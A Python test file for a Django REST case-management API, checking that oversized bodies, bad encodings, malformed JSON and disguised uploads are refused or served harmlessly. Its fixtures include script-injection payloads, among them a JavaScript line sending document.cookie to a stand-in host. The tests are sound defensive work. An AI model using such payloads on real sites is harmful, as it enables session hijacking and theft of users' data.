"""Hostile input: bodies too big, bytes that are not the encoding they claim, the wrong Content-Type, malformed
JSON, and files that are not what their names say. Each is refused with a clear 4xx and nothing saved, never a
500; and a kept file is never served as anything a browser would run."""

from __future__ import annotations

import json

import pytest
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from cases.models import Attachment, Person
from tests.cases import test_attachments_helpers as samples
from tests.cases.test_attachments_helpers import drawing_voice, upload
from tests.cases.test_attachments_pages import body

DESCRIPTION = "What the child drew at the contact centre"
PEOPLE = "/api/v1/people/"
ATTACHMENTS = "/api/v1/attachments/"


def api(user) -> APIClient:
    """Signed in with a token, as agencies' systems are."""
    token, _ = Token.objects.get_or_create(user=user)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return client


def person_body(**extra) -> dict:
    return {"given_name": "Amara", "family_name": "Okafor", "date_of_birth": "2019-03-04", **extra}


# -- Bodies too big ------------------------------------------------------------------------------------------


def test_a_json_body_over_the_upload_limit_is_refused_clearly_and_nothing_saved(world, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 2048
    big = json.dumps(person_body()) + " " * 5000  # valid JSON, padded past the limit
    response = api(world.sw).post(PEOPLE, big, content_type="application/json")
    assert response.status_code == 413
    assert response["Content-Type"] == "application/json"
    assert "too large" in response.json()["detail"]
    assert not Person.objects.exists()
    # The same body under the limit is taken: it was the size, not the content, that was refused.
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10 * 1024 * 1024
    assert api(world.sw).post(PEOPLE, big, content_type="application/json").status_code == 201


def test_a_form_body_over_the_upload_limit_is_refused_clearly(world, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 2048
    response = api(world.sw).post(PEOPLE, person_body(other_names="x" * 5000), format="multipart")
    assert response.status_code == 413
    assert "too large" in response.json()["detail"]
    assert not Person.objects.exists()


def test_a_file_over_the_attachment_limit_is_a_field_error(world, settings):
    settings.ATTACHMENT_MAX_BYTES = 1024
    voice = drawing_voice(world)
    big_png = samples.PNG + b"\x00" * 4096
    response = api(world.sw).post(ATTACHMENTS, {
        "record_type": "child_voice", "record_id": voice.pk, "description": DESCRIPTION,
        "file": upload("drawing.png", big_png, "image/png")}, format="multipart")
    assert response.status_code == 400
    assert response.json() == {"file": ["The selected file must be smaller than 1KB"]}
    assert not Attachment.objects.exists()


# -- Bad encodings, wrong Content-Type, malformed JSON ------------------------------------------------------


def test_invalid_utf8_in_a_json_body_is_a_400_naming_the_problem(world):
    raw = b'{"given_name": "Am\xffara", "family_name": "Okafor", "date_of_birth": "2019-03-04"}'
    response = api(world.sw).post(PEOPLE, raw, content_type="application/json")
    assert response.status_code == 400
    assert "JSON parse error" in response.json()["detail"]
    assert not Person.objects.exists()


def test_invalid_utf8_in_a_form_body_is_never_a_500(world):
    raw = b"given_name=Am%FFara&family_name=Oka\xfefor&date_of_birth=2019-03-04"
    response = api(world.sw).post(PEOPLE, raw, content_type="application/x-www-form-urlencoded")
    assert response.status_code in (201, 400)
    if response.status_code == 201:
        # Kept only as valid text: the bytes that were not UTF-8 became the replacement character.
        person = Person.objects.get()
        assert person.given_name == "Am\ufffdara"
        person.given_name.encode("utf-8")


def test_malformed_json_is_a_400_and_nothing_saved(world):
    for raw in (b'{"given_name": "Amara",', b"[1, 2", b'{"given_name": NaN}', b"\x00\x01\x02"):
        response = api(world.sw).post(PEOPLE, raw, content_type="application/json")
        assert response.status_code == 400, raw
        assert response.json()["detail"].startswith("JSON parse error"), raw
    assert not Person.objects.exists()


def test_a_body_of_the_wrong_content_type_is_415(world):
    response = api(world.sw).post(PEOPLE, "given_name=Amara", content_type="text/plain")
    assert response.status_code == 415
    assert "text/plain" in response.json()["detail"]
    response = api(world.sw).post(PEOPLE, b"<person/>", content_type="application/xml")
    assert response.status_code == 415
    assert not Person.objects.exists()


def test_a_json_body_that_is_not_an_object_is_a_400(world):
    for raw in (b"[]", b'"Amara"', b"42", b"null"):
        response = api(world.sw).post(PEOPLE, raw, content_type="application/json")
        assert response.status_code == 400, raw
    assert not Person.objects.exists()


# -- Files that are not what their names say ----------------------------------------------------------------

HTML = b"<!doctype html><html><body><script>fetch('/api/v1/people/').then(r => r.text())</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
       b"<script>alert(1)</script></svg>")
JS = b"document.location = 'https://example.invalid/?c=' + document.cookie;\n"


def add(world, content: bytes, name: str, claimed: str = "image/png"):
    voice = world.once("hostile-voice", drawing_voice)
    return api(world.sw).post(ATTACHMENTS, {
        "record_type": "child_voice", "record_id": voice.pk, "description": DESCRIPTION,
        "file": upload(name, content, claimed)}, format="multipart")


def download(world, attachment_id: int):
    return api(world.sw).get(f"/api/v1/attachments/{attachment_id}/download/")


def assert_never_runs(response) -> None:
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"].split(";")[0] not in ("text/html", "image/svg+xml", "application/javascript",
                                                           "text/javascript", "application/xhtml+xml")
    assert "sandbox" in response["Content-Security-Policy"]


@pytest.mark.parametrize(("content", "name"), [
    (HTML, "drawing.png"), (HTML, "letter.html"), (SVG, "drawing.svg"), (SVG, "drawing.jpg"), (JS, "notes.js"),
])
def test_markup_and_scripts_renamed_are_kept_only_as_text_and_downloaded_never_shown(world, content, name):
    added = add(world, content, name, claimed="text/html")
    assert added.status_code == 201, added.content
    assert added.json()["content_type"] == "text/plain; charset=utf-8" and added.json()["kind"] == "document"
    served = download(world, added.json()["id"])
    assert served.status_code == 200
    assert served["Content-Type"] == "text/plain; charset=utf-8"
    assert served["Content-Disposition"].startswith("attachment;")
    # Saved to disk it is a text file whatever it was called, so it never opens as a page or a script.
    assert '.txt"' in served["Content-Disposition"] or name.endswith(".txt")
    assert_never_runs(served)
    assert body(served) == content


def test_a_file_whose_content_is_not_its_extension_is_kept_as_its_content(world):
    added = add(world, samples.PDF, "photo.jpg", claimed="image/jpeg")
    assert added.status_code == 201
    assert added.json()["content_type"] == "application/pdf" and added.json()["kind"] == "document"
    served = download(world, added.json()["id"])
    assert served["Content-Type"] == "application/pdf"
    assert served["Content-Disposition"] == 'attachment; filename="photo.jpg.pdf"'
    assert_never_runs(served)


def test_a_photo_named_as_a_page_is_served_as_the_photo_it_is(world):
    added = add(world, samples.PNG, "evil.html", claimed="text/html")
    assert added.status_code == 201
    served = download(world, added.json()["id"])
    assert served["Content-Type"] == "image/png"
    assert served["Content-Disposition"] == 'inline; filename="evil.html.png"'
    assert_never_runs(served)


@pytest.mark.parametrize(("content", "message"), [
    (b"", "The selected file is empty"),
    (samples.EXE, "it looks like a program"),
    (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4 + b"\xff\xfe", None),  # a PNG's signature, then rubbish
    (b"\xff\xfe\xfd\x00garbage", "The file is not a photo, audio, video or document we can keep"),
])
def test_empty_programs_and_rubbish_are_refused_or_kept_only_as_what_they_are(world, content, message):
    added = add(world, content, "drawing.png")
    if message is None:
        # Judged by its signature it is a PNG: kept as one, and served as nothing else.
        assert added.status_code == 201 and added.json()["content_type"] == "image/png"
        assert_never_runs(download(world, added.json()["id"]))
        return
    assert added.status_code == 400
    assert message in added.json()["file"][0]
    assert not Attachment.objects.exists()


def test_a_file_whose_saved_type_is_not_one_kept_is_served_as_bytes_to_save(world):
    added = add(world, samples.PNG, "drawing.png")
    # A row altered outside the application (or by an older version) must not turn the file into a page.
    Attachment.objects.filter(pk=added.json()["id"]).update(content_type="text/html")
    served = download(world, added.json()["id"])
    assert served.status_code == 200
    assert served["Content-Type"] == "application/octet-stream"
    assert served["Content-Disposition"].startswith("attachment;")
    assert_never_runs(served)
